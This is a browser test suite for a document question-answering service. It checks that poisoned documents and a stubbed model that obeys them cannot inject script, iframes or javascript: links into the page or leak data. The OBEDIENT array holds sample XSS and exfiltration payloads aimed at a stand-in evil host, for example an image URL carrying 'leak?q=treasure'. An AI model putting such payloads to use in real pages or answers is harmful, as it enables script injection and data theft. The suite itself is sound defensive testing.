import type { Page } from "playwright-core";
import { beforeAll, expect, test } from "vitest";
import { EVIL, POISONED } from "../doubles/poisoned-files.ts";
import { browserSuite } from "./browser-suite.ts";
import { addDocument } from "./open-service.ts";

const SECRET = "The treasure is under the third birch";
/** What a model says that does what a document tells it. */
const OBEDIENT = [
  `![receipt](${EVIL}/leak?q=treasure) <img src="${EVIL}/html.png"> [more](javascript:document.title='pwned') `,
  `<script>document.title="pwned"</script> [1](${EVIL}/cite) [1] `,
  `<iframe src="${EVIL}/frame"></iframe> ${EVIL}/plain\n\n[1]: ${EVIL}/reference\n`,
];

browserSuite("poisoned documents", ({ service, open }) => {
  const ids: string[] = [];
  const prompts: string[] = [];
  beforeAll(async () => {
    expect(POISONED).toHaveLength(30);
    for (const [name, content] of POISONED) ids.push(await addDocument(service.url, name, content));
    await addDocument(service.url, "alice.txt", `${SECRET}. The ferry of alice.`, "alice");
    service.model.answerWith((prompt) => {
      prompts.push(prompt);
      return OBEDIENT;
    });
  }, 300_000);

  /** Nothing of a document has become part of the page, run in it, or made it ask anybody for anything. */
  async function expectUntouched(page: Page, strangers: readonly string[], where: string): Promise<void> {
    expect([where, strangers]).toEqual([where, []]);
    expect([where, await page.title()]).not.toEqual([where, "pwned"]);
    const intruders = await page.evaluate(`[...document.querySelectorAll("*")]
      .filter((element) => element.matches("iframe, object, embed, base, form[action], main script, main style, main link")
        || [...element.attributes].some(({ name, value }) => name.startsWith("on")
          || (/^(href|src|action|data|xlink:href)$/.test(name) && /^\\s*(javascript|vbscript|data:text)/i.test(value))
          || (/^(src|srcset|poster|background)$/.test(name) && value.includes("evil.invalid"))))
      .map((element) => element.outerHTML.slice(0, 200))`);
    expect([where, intruders]).toEqual([where, []]);
  }

  test("are shown as what they say", async () => {
    const { page, errors, strangers } = await open("/library");
    await page.getByText("paper.pdf").first().waitFor();
    await expectUntouched(page, strangers, "library");
    for (const [i, id] of ids.entries()) {
      await page.goto(`${service.url}/library/${id}`);
      await page.getByRole("heading", { level: 1 }).waitFor();
      await page.waitForLoadState("networkidle");
      await expectUntouched(page, strangers, POISONED[i]?.[0] ?? "");
    }
    expect(errors).toEqual([]);
  });

  test("lead nobody anywhere by their file's address", async () => {
    for (const [i, id] of ids.entries()) {
      const answer = await fetch(`${service.url}/api/documents/file?fileId=${id}`);
      const name = POISONED[i]?.[0] ?? "";
      const { headers } = answer;
      expect([name, headers.get("x-content-type-options")]).toEqual([name, "nosniff"]);
      if (headers.get("content-type") !== "application/pdf") {
        expect([name, headers.get("content-security-policy")]).toEqual([
          name,
          expect.stringContaining("sandbox"),
        ]);
      }
    }
  });

  test("change neither how an answer is shown nor whose documents it is made from", async () => {
    const { page, errors, strangers } = await open("/");
    for (const question of ["Where is the treasure of alice?", "What does the ferry cost?"]) {
      await page.goto(`${service.url}/`);
      await page.getByRole("textbox", { name: "Your question" }).fill(question);
      await page.keyboard.press("Enter");
      await page.waitForURL(/\/chat\/\w+$/);
      await page.getByText("evil.invalid").first().waitFor();
      await page.getByRole("button", { name: "Stop" }).waitFor({ state: "detached" });
      await expectUntouched(page, strangers, question);
    }
    expect(errors).toEqual([]);
    expect(prompts.length).toBeGreaterThan(1);
    expect(prompts.join("\n")).not.toContain(SECRET);
    expect(prompts.join("\n")).toContain("ferry");
  });
});
